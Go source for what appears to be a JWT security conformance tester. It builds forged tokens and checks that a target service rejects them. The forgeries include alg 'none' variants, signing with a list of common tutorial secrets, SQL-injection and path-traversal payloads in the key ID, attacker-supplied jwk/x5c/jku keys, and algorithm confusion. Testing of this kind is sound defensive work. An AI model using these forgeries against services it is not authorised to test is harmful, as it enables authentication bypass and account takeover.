package contract

import (
	"bytes"
	"compress/flate"
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync/atomic"
	"time"
)

// commonSecrets are secrets that tutorials and templates use.
var commonSecrets = []string{
	"", "secret", "secretkey", "secret-key", "secret_key", "SECRET_KEY", "your-secret-key", "your_secret_key",
	"your-256-bit-secret", "your-512-bit-secret", "mysecretkey", "my-secret-key", "changeme", "change-me",
	"change-this-in-production", "jwt-secret", "jwt_secret", "supersecret", "super-secret-key", "password", "123456",
	"test", "development", "default", "key", "qwerty", "AllYourBase", "shhhhh", "keyboard cat",
	"09d25e094faa6ca2556c818166b7a9563b93f7099f6f0f4caa6cf63b88e8d3e7",
	"404E635266556A586E3272357538782F413F4428472B4B6250645367566B5970",
}

// tokenAttacks forge tokens without the key of the service.
var tokenAttacks = []Attack{
	{ID: "token.none", Text: "A token whose algorithm is none has no signature.", Requirement: "TK-01", Source: "RFC 8725 section 3.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			return []string{unsigned(with(t.header, "alg", `"none"`), object(t.payload), "")}
		})},
	{ID: "token.none-spelling", Text: "The algorithm none is written in another case.", Requirement: "TK-01", Source: "RFC 8725 section 3.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, alg := range []string{`"None"`, `"NONE"`, `"nOnE"`, `" none"`, `"none "`, `"none\u0000"`} {
				all = append(all, unsigned(with(t.header, "alg", alg), object(t.payload), ""))
			}
			return all
		})},
	{ID: "token.none-signed", Text: "A token whose algorithm is none keeps the signature of another token.", Requirement: "TK-01", Source: "RFC 8725 section 3.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			return []string{unsigned(with(t.header, "alg", `"none"`), object(t.payload), t.signature)}
		})},
	{ID: "token.no-algorithm", Text: "The header names no algorithm, or one that is not a string.", Requirement: "TK-01", Source: "RFC 7515 section 4.1.1", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, alg := range []string{"", `""`, `null`, `0`, `["none"]`, `{}`, `true`} {
				all = append(all, unsigned(with(t.header, "alg", alg), object(t.payload), ""), unsigned(with(t.header, "alg", alg), object(t.payload), t.signature))
			}
			return all
		})},
	{ID: "token.no-signature", Text: "The signature is removed, and the algorithm stays.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string { return []string{t.input + ".", t.input} })},
	{ID: "token.zero-signature", Text: "The signature consists of zeros.", Requirement: "TK-01", Source: "RFC 7515 section 5.2; CVE-2022-21449", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, n := range []int{32, 48, 64, 256} {
				for _, alg := range []string{string(t.header["alg"]), `"ES256"`, `"RS256"`} {
					all = append(all, unsigned(with(t.header, "alg", alg), object(t.payload), encode(strings.Repeat("\x00", n))))
				}
			}
			return all
		})},
	{ID: "token.short-signature", Text: "The signature is cut, down to a single byte.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			raw, _ := encoding.DecodeString(t.signature)
			for n := 1; n < len(raw); n += max(1, len(raw)/8) {
				all = append(all, t.input+"."+encoding.EncodeToString(raw[:n]))
			}
			return all
		})},
	{ID: "token.long-signature", Text: "Bytes follow the right signature.", Requirement: "TK-10", Source: "RFC 7515 section 5.2", Severity: Low,
		run: tokenAttack(func(t *jwt) []string {
			raw, _ := encoding.DecodeString(t.signature)
			return []string{t.input + "." + encoding.EncodeToString(append(raw, 0)), t.input + "." + t.signature + "AAAA"}
		})},
	{ID: "token.changed-payload", Text: "A claim is changed after the signature was made.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			return []string{
				unsigned(object(t.header), with(t.payload, "exp", "4102444800"), t.signature),
				unsigned(object(t.header), with(t.payload, "roles", `["admin"]`), t.signature),
				unsigned(object(t.header), with(t.payload, "role", `"admin"`, "scope", `"admin"`), t.signature),
			}
		})},
	{ID: "token.changed-subject", Text: "The subject is changed to another account after the signature was made.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: Critical, needs: needAdmin,
		run: func(ctx context.Context, p *probe) error {
			t, err := p.jwt(ctx)
			if err != nil {
				return err
			}
			name, _ := json.Marshal(p.Admin.Name) // a string
			return p.refuseTokens(ctx, unsigned(object(t.header), with(t.payload, "sub", string(name)), t.signature))
		}},
	{ID: "token.changed-header", Text: "A header member is added after the signature was made.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: High,
		run: tokenAttack(func(t *jwt) []string {
			return []string{unsigned(with(t.header, "x", "1"), object(t.payload), t.signature)}
		})},
	{ID: "token.signature-bits", Text: "The last letter of the signature differs in bits that do not count.", Requirement: "TK-11", Source: "RFC 4648 section 3.5", Severity: Low,
		run: tokenAttack(func(t *jwt) (all []string) {
			const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
			last := len(t.signature) - 1
			free := map[int]int{2: 16, 3: 4}[len(t.signature)%4] // values of the bits that do not count
			at := strings.IndexByte(alphabet, t.signature[last])
			for i := range free {
				if other := at - at%max(free, 1) + i; other != at {
					all = append(all, t.input+"."+t.signature[:last]+alphabet[other:other+1])
				}
			}
			return all
		})},
	{ID: "token.padding", Text: "The parts of the token are padded, as in plain base64.", Requirement: "TK-10", Source: "RFC 7515 section 2", Severity: Low,
		run: tokenAttack(func(t *jwt) []string {
			parts := strings.Split(t.input, ".")
			return []string{
				t.input + "." + padded(t.signature), t.input + "." + t.signature + "=",
				padded(parts[0]) + "=." + parts[1] + "." + t.signature,
			}
		})},
	{ID: "token.other-alphabet", Text: "The signature is written in the alphabet of plain base64.", Requirement: "TK-10", Source: "RFC 7515 section 2", Severity: Low,
		run: func(ctx context.Context, p *probe) error {
			for range 8 { // most signatures have one of the two letters that differ
				t, err := p.jwt(ctx)
				if err != nil {
					return err
				}
				if other := strings.NewReplacer("-", "+", "_", "/").Replace(t.signature); other != t.signature {
					return p.refuseTokens(ctx, t.input+"."+other)
				}
				delete(p.tokens, p.User.Name)
			}
			return &inapplicable{"no signature of the target has a letter that differs"}
		}},
	{ID: "token.whitespace", Text: "Spaces or line breaks are inserted into the token.", Requirement: "TK-10", Source: "RFC 7515 section 2", Severity: Low,
		run: func(ctx context.Context, p *probe) error {
			t, err := p.jwt(ctx)
			if err != nil {
				return err
			}
			token := t.input + "." + t.signature
			middle := len(t.input) + 1 + len(t.signature)/2
			for _, s := range []string{token[:middle] + " " + token[middle:], token[:middle] + "\t" + token[middle:], token[:9] + " " + token[9:]} {
				a, err := p.raw(ctx, p.guard.Method, p.base.Path+p.guard.Path, "Authorization: Bearer "+s)
				if err := p.refused(a, err); err != nil {
					return err
				}
			}
			return nil
		}},
	{ID: "token.parts", Text: "The token has too many or too few parts.", Requirement: "TK-10", Source: "RFC 7515 section 7.1; CVE-2025-30204", Severity: Low,
		run: tokenAttack(func(t *jwt) []string {
			token := t.input + "." + t.signature
			return []string{token + ".", "." + token, token + "." + t.signature, ".." + t.signature, t.input + ".." + t.signature, strings.Repeat(".", 6000)}
		})},
	{ID: "token.jwe", Text: "The token has the five parts of an encrypted token.", Requirement: "TK-10", Source: "RFC 7516 section 9; RFC 8725 section 3.3", Severity: Medium,
		run: tokenAttack(func(t *jwt) []string {
			header := `{"alg":"dir","enc":"A256GCM","cty":"JWT"}`
			inner := encode(unsigned(with(t.header, "alg", `"none"`), object(t.payload), ""))
			return []string{encode(header) + "..AAAAAAAAAAAAAAAA." + inner + ".AAAAAAAAAAAAAAAAAAAAAA", encode(header) + "." + inner + ".."}
		})},
	{ID: "token.detached", Text: "The payload of the token is detached.", Requirement: "TK-10", Source: "RFC 7515 appendix F", Severity: Medium,
		run: tokenAttack(func(t *jwt) []string {
			header, _, _ := strings.Cut(t.input, ".")
			return []string{header + ".." + t.signature}
		})},
	{ID: "token.json-form", Text: "The token is written in the JSON serialization.", Requirement: "TK-10", Source: "RFC 7515 section 7.2", Severity: Low,
		run: tokenAttack(func(t *jwt) []string {
			header, payload, _ := strings.Cut(t.input, ".")
			object := fmt.Sprintf(`{"payload":%q,"protected":%q,"signature":%q}`, payload, header, t.signature)
			return []string{object, encode(object)}
		})},
	{ID: "token.common-secret", Text: "The token is signed with a secret that tutorials use, or with none.", Requirement: "TK-02", Source: "RFC 8725 section 3.5", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, secret := range commonSecrets {
				all = append(all, hs256(with(t.header, "alg", `"HS256"`), object(t.payload), []byte(secret)))
			}
			return all
		})},
	{ID: "token.common-secret-512", Text: "The token is signed with HS384 or HS512 and a secret that tutorials use, or with none.", Requirement: "TK-01", Source: "RFC 8725 section 3.5", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, secret := range commonSecrets {
				all = append(all, hs384(with(t.header, "alg", `"HS384"`), object(t.payload), []byte(secret)),
					hs512(with(t.header, "alg", `"HS512"`), object(t.payload), []byte(secret)))
			}
			return all
		})},
	{ID: "token.kid-file", Text: "The key ID is the path of a file whose content the attacker knows.", Requirement: "TK-03", Source: "RFC 8725 section 3.10", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, path := range []string{"/dev/null", "../../../../../../../dev/null", "file:///dev/null", "/proc/sys/kernel/randomize_va_space"} {
				header := with(t.header, "alg", `"HS256"`, "kid", quote(path))
				all = append(all, hs256(header, object(t.payload), nil), hs256(header, object(t.payload), []byte("2\n")))
			}
			return all
		})},
	{ID: "token.kid-sql", Text: "The key ID is part of an SQL statement that returns a key of the attacker.", Requirement: "TK-03", Source: "RFC 8725 section 3.10", Severity: Critical,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, id := range []string{"x' UNION SELECT 'attacker'-- ", `x" UNION SELECT "attacker"-- `, "x' UNION SELECT 'attacker' FROM dual#"} {
				all = append(all, hs256(with(t.header, "alg", `"HS256"`, "kid", quote(id)), object(t.payload), []byte("attacker")))
			}
			return all
		})},
	{ID: "token.kid-unknown", Text: "The key ID is unknown, of another type, or very long.", Requirement: "TK-03", Source: "RFC 7515 section 4.1.4", Severity: Medium,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, id := range []string{`"unknown"`, `7`, `null`, `["a"]`, `{}`, quote(strings.Repeat("k", 4000)), `"\u0000"`} {
				all = append(all, hs256(with(t.header, "alg", `"HS256"`, "kid", id), object(t.payload), nil),
					unsigned(with(t.header, "kid", id), object(t.payload), t.signature))
			}
			return all
		})},
	{ID: "token.jku", Text: "The header names the address of a key set of the attacker.", Requirement: "TK-03", Source: "RFC 8725 section 3.10", Severity: Critical, needs: needLoopback,
		run: fetchAttack("jku")},
	{ID: "token.x5u", Text: "The header names the address of a certificate of the attacker.", Requirement: "TK-03", Source: "RFC 8725 section 3.10", Severity: Critical, needs: needLoopback,
		run: fetchAttack("x5u")},
	{ID: "token.jwk", Text: "The header has the public key of the attacker.", Requirement: "TK-03", Source: "CVE-2018-0114", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			key := newAttackerKey()
			symmetric := with(t.header, "alg", `"HS256"`, "jwk", fmt.Sprintf(`{"kty":"oct","k":%q}`, encode("attacker")))
			return []string{
				key.sign(with(t.header, "alg", `"ES256"`, "jwk", key.jwk()), object(t.payload)),
				hs256(symmetric, object(t.payload), []byte("attacker")),
			}
		})},
	{ID: "token.x5c", Text: "The header has a certificate of the attacker.", Requirement: "TK-03", Source: "RFC 8725 section 3.10", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			key := newAttackerKey()
			chain := fmt.Sprintf("[%q]", base64.StdEncoding.EncodeToString(key.certificate()))
			return []string{key.sign(with(t.header, "alg", `"ES256"`, "x5c", chain), object(t.payload))}
		})},
	{ID: "token.public-key-secret", Text: "The public key of the service is used as the secret of HS256.", Requirement: "TK-01", Source: "RFC 8725 section 3.1", Severity: Critical, needs: needKeySet,
		run: confuse},
	{ID: "token.key-set", Text: "The published key set has a private or a symmetric key.", Requirement: "TK-15", Source: "RFC 7517 section 9.2", Severity: Critical, needs: needKeySet,
		run: func(ctx context.Context, p *probe) error {
			keys, err := p.keySet(ctx)
			if err != nil {
				return err
			}
			for i, raw := range keys {
				var members map[string]json.RawMessage
				_ = json.Unmarshal(raw, &members) // a key that is no object has no members
				for _, name := range []string{"d", "p", "q", "dp", "dq", "qi", "oth", "k", "priv"} {
					if members[name] != nil {
						return succeeded("key %d of %s has the private member %s", i+1, p.KeySetPath, name)
					}
				}
			}
			return nil
		}},
	{ID: "token.other-key", Text: "The token is signed with a key of the attacker.", Requirement: "TK-01", Source: "RFC 7515 section 5.2", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			key := newAttackerKey()
			secret := make([]byte, 32)
			_, _ = rand.Read(secret) // never fails
			return []string{
				key.sign(with(t.header, "alg", `"ES256"`), object(t.payload)),
				hs256(with(t.header, "alg", `"HS256"`), object(t.payload), secret),
			}
		})},
	{ID: "token.zip", Text: "The payload is compressed, and the header says so.", Requirement: "TK-04", Source: "RFC 8725 section 3.6", Severity: Medium,
		run: tokenAttack(func(t *jwt) []string {
			var b bytes.Buffer
			w, _ := flate.NewWriter(&b, flate.BestCompression) // the level is valid
			_, _ = w.Write([]byte(object(t.payload)))
			_ = w.Close()
			return []string{unsigned(with(t.header, "zip", `"DEF"`, "alg", `"none"`), b.String(), "")}
		})},
	{ID: "token.not-json", Text: "The header or the payload is no JSON object.", Requirement: "TK-12", Source: "RFC 7519 section 7.2", Severity: Medium,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, s := range []string{"", "null", "[]", `""`, "0", "{", `{"a"`, "\x00", "\xff\xfe", "{}{}", "\xef\xbb\xbf{}", strings.Repeat("[", 3000), strings.Repeat(`{"a":`, 1000)} {
				all = append(all, encode(s)+"."+encode(object(t.payload))+"."+t.signature, unsigned(object(t.header), s, t.signature))
			}
			return append(all, "...", "..", ".", "eyJ", "a.b.c", "%%%.%%%.%%%")
		})},
	{ID: "token.bytes", Text: "The token has bytes that are no letters of base64.", Requirement: "TK-10", Source: "RFC 7515 section 2", Severity: Low,
		run: tokenAttack(func(t *jwt) (all []string) {
			for _, s := range []string{"\xc3\xa4", "\xff", "%00", "*", "\"", "é"} {
				all = append(all, t.input+"."+t.signature+s, s+t.input+"."+t.signature)
			}
			return all
		})},
	{ID: "token.long", Text: "The token is very long.", Requirement: "TK-10", Source: "RFC 9110 section 15.5.1; CVE-2025-30204", Severity: Medium,
		run: func(ctx context.Context, p *probe) error {
			t, err := p.jwt(ctx)
			if err != nil {
				return err
			}
			for _, n := range []int{9_000, 30_000, 500_000} {
				token := unsigned(with(t.header, "pad", quote(strings.Repeat("a", n))), object(t.payload), t.signature)
				if err := p.refuseTokens(ctx, token, strings.Repeat("a", n), strings.Repeat("a.", n/2)); err != nil {
					return err
				}
			}
			return p.healthy(ctx)
		}},
	{ID: "token.escaped-header", Text: "The name alg is written with an escape, and the algorithm is none.", Requirement: "TK-08", Source: "RFC 7515 section 4", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			return []string{unsigned(`{"\u0061lg":"none","typ":"JWT"}`, object(t.payload), ""), unsigned(`{"ALG":"none","typ":"JWT"}`, object(t.payload), "")}
		})},
	{ID: "token.twice-algorithm", Text: "The header names two algorithms.", Requirement: "TK-08", Source: "RFC 7515 section 4", Severity: Critical,
		run: tokenAttack(func(t *jwt) []string {
			alg := string(t.header["alg"])
			return []string{
				unsigned(`{"alg":"none","alg":`+alg+`}`, object(t.payload), ""), unsigned(`{"alg":`+alg+`,"alg":"none"}`, object(t.payload), ""),
				hs256(`{"alg":"none","alg":"HS256"}`, object(t.payload), nil),
			}
		})},
}

// padded returns an encoded part with the padding of plain base64, or with "="
// if it needs none.
func padded(s string) string {
	if n := len(s) % 4; n != 0 {
		return s + strings.Repeat("=", 4-n)
	}
	return s + "="
}

func quote(s string) string {
	quoted, _ := json.Marshal(s) // a string
	return string(quoted)
}

// An attackerKey is a key pair that the service does not know.
type attackerKey struct{ *ecdsa.PrivateKey }

func newAttackerKey() attackerKey {
	key, _ := ecdsa.GenerateKey(elliptic.P256(), rand.Reader) // never fails
	return attackerKey{key}
}

// sign returns a token with a signature of ES256 (RFC 7518 section 3.4).
func (k attackerKey) sign(header, payload string) string {
	input := encode(header) + "." + encode(payload)
	digest := sha256.Sum256([]byte(input))
	r, s, _ := ecdsa.Sign(rand.Reader, k.PrivateKey, digest[:]) // never fails
	signature := append(r.FillBytes(make([]byte, 32)), s.FillBytes(make([]byte, 32))...)
	return input + "." + encoding.EncodeToString(signature)
}

// jwk returns the public key as a JSON Web Key (RFC 7518 section 6.2).
func (k attackerKey) jwk() string {
	point, _ := k.PublicKey.Bytes() // 4, x and y
	return fmt.Sprintf(`{"kty":"EC","crv":"P-256","kid":"attacker","use":"sig","alg":"ES256","x":%q,"y":%q}`,
		encoding.EncodeToString(point[1:33]), encoding.EncodeToString(point[33:]))
}

func (k attackerKey) certificate() []byte {
	at := time.Now()
	template := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "attacker"}, NotBefore: at.Add(-time.Hour), NotAfter: at.Add(time.Hour)}
	der, _ := x509.CreateCertificate(rand.Reader, template, template, k.Public(), k.PrivateKey) // never fails
	return der
}

// fetchAttack is the run function of an attack whose header names an address of
// the attacker. The service must not even ask for it.
func fetchAttack(member string) func(context.Context, *probe) error {
	return func(ctx context.Context, p *probe) error {
		t, err := p.jwt(ctx)
		if err != nil {
			return err
		}
		key := newAttackerKey()
		var fetched atomic.Int32
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		server := &http.Server{ReadHeaderTimeout: maxWait, Handler: http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
			fetched.Add(1)
			if member == "x5u" {
				_ = pem.Encode(w, &pem.Block{Type: "CERTIFICATE", Bytes: key.certificate()})
				return
			}
			_, _ = fmt.Fprintf(w, `{"keys":[%s]}`, key.jwk())
		})}
		go func() { _ = server.Serve(listener) }()
		defer server.Close()
		header := with(t.header, "alg", `"ES256"`, "kid", `"attacker"`, member, quote("http://"+listener.Addr().String()+"/keys"))
		if err := p.refuseTokens(ctx, key.sign(header, object(t.payload))); err != nil {
			return err
		}
		if fetched.Load() > 0 {
			return succeeded("the service asked for the address in the member %s", member)
		}
		return nil
	}
}

// confuse signs tokens with HS256, and with the public keys of the service as
// the secret.
func confuse(ctx context.Context, p *probe) error {
	t, err := p.jwt(ctx)
	if err != nil {
		return err
	}
	keys, err := p.keySet(ctx)
	if err != nil {
		return err
	}
	var secrets [][]byte
	for _, raw := range keys {
		secrets = append(secrets, raw)
		public, err := publicKey(raw)
		if err != nil {
			continue // of another kind
		}
		der, err := x509.MarshalPKIXPublicKey(public)
		if err != nil {
			continue
		}
		block := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		secrets = append(secrets, der, block, bytes.TrimSpace(block))
	}
	for _, secret := range secrets {
		if err := p.refuseTokens(ctx, hs256(with(t.header, "alg", `"HS256"`), object(t.payload), secret)); err != nil {
			return err
		}
	}
	return nil
}

// keySet returns the keys that the service publishes.
func (p *probe) keySet(ctx context.Context) ([]json.RawMessage, error) {
	a, err := p.send(ctx, message{method: http.MethodGet, path: p.KeySetPath})
	if err != nil {
		return nil, err
	}
	var set struct {
		Keys []json.RawMessage `json:"keys"`
	}
	if err := json.Unmarshal([]byte(a.body), &set); err != nil || len(set.Keys) == 0 {
		return nil, fmt.Errorf("%s responds with %d and has no keys", p.KeySetPath, a.status)
	}
	return set.Keys, nil
}

// publicKey returns the public key of a JSON Web Key.
func publicKey(raw json.RawMessage) (crypto.PublicKey, error) {
	var k struct {
		Kty, Crv, N, E, X, Y string
	}
	if err := json.Unmarshal(raw, &k); err != nil {
		return nil, err
	}
	var numbers [4][]byte
	for i, s := range []string{k.N, k.E, k.X, k.Y} {
		numbers[i], _ = encoding.DecodeString(s) // empty if it is none
	}
	n, e, x, y := numbers[0], numbers[1], numbers[2], numbers[3]
	switch {
	case k.Kty == "RSA":
		return &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())}, nil
	case k.Kty == "EC" && k.Crv == "P-256":
		return ecdsa.ParseUncompressedPublicKey(elliptic.P256(), slices.Concat([]byte{4}, x, y))
	case k.Kty == "OKP" && k.Crv == "Ed25519":
		return ed25519.PublicKey(x), nil
	}
	return nil, errors.New("contract: a key of another kind")
}
